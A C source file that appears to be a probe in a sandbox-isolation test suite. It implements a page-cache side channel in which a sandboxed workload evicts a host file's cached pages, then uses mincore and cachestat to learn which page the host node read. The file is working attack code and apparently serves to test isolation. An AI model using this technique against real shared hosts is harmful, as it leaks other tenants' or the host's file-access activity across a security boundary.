// The node's page cache as a channel: a file of the node that the
// workload's view shows read-only (the same inode, so the same cached pages)
// is dropped from the cache by the workload (POSIX_FADV_DONTNEED needs only a
// descriptor open for reading); the node then reads one page of it; the
// workload asks which pages are cached again (mincore of a mapping, and
// cachestat, which the kernel answers to the file's owner, and the
// workload's root owns the node's root files) and so learns which page the
// node read. The kernel restricted mincore to owners and writers for this
// attack (Linux 5.0); the workload's uid 0 is the owner.
//   page-cache FILE          in the sandbox: the steps above, waiting in the
//                            working directory for `go` after writing `ready`
//   page-cache --read FILE N on the node: reads page N only (no readahead)
#include "attack.h"

#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>

struct zviz_cachestat_range {
  unsigned long long off, len;
};
struct zviz_cachestat {
  unsigned long long nr_cache, nr_dirty, nr_writeback, nr_evicted, nr_recently_evicted;
};
enum { NR_CACHESTAT = 451 };

/** The indices of the cached pages, comma-separated ("none" when there are none). */
static void resident(const char* name, const unsigned char* vec, long pages) {
  char list[4096] = "";
  size_t used = 0;
  for (long i = 0; i < pages; i++) {
    if (vec[i] & 1) used += (size_t)snprintf(list + used, sizeof(list) - used, "%s%ld", used ? "," : "", i);
    if (used >= sizeof(list) - 16) break;
  }
  say("%s ok %s", name, used ? list : "none");
}

static int wait_for(const char* path) {
  struct timespec tick = {0, 10 * 1000 * 1000};
  for (int i = 0; i < 3000; i++) {
    if (access(path, F_OK) == 0) return 0;
    nanosleep(&tick, NULL);
  }
  return -1;
}

int main(int argc, char** argv) {
  long page = sysconf(_SC_PAGESIZE);
  if (argc == 4 && strcmp(argv[1], "--read") == 0) {
    int fd = open(argv[2], O_RDONLY);
    if (fd < 0) return 2;
    posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);
    char buf[65536];
    return pread(fd, buf, (size_t)page, atol(argv[3]) * page) == page ? 0 : 3;
  }
  if (argc != 2) return 2;
  int fd = open(argv[1], O_RDONLY);
  if (outcome("open", fd) < 0) return 0;
  struct stat st;
  fstat(fd, &st);
  long pages = (st.st_size + page - 1) / page;
  unsigned char* map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, fd, 0);
  unsigned char* vec = calloc((size_t)pages, 1);
  if (map == MAP_FAILED || !vec) return 3;
  // Drop the node's cached pages of the file; retried, as a page being read elsewhere stays.
  for (int i = 0; i < 50; i++) {
    posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
    mincore(map, (size_t)st.st_size, vec);
    long left = 0;
    for (long p = 0; p < pages; p++) left += vec[p] & 1;
    if (left == 0) break;
  }
  resident("mincore-dropped", vec, pages);
  int ready = open("ready", O_WRONLY | O_CREAT, 0644);
  close(ready);
  if (wait_for("go") < 0) {
    say("go errno ETIMEDOUT");
    return 0;
  }
  outcome("mincore", mincore(map, (size_t)st.st_size, vec));
  resident("mincore-cached", vec, pages);
  struct zviz_cachestat_range range = {0, 0};
  struct zviz_cachestat cs;
  if (outcome("cachestat", syscall(NR_CACHESTAT, fd, &range, &cs, 0)) == 0) {
    say("cachestat-cached ok %llu", cs.nr_cache);
  }
  return 0;
}
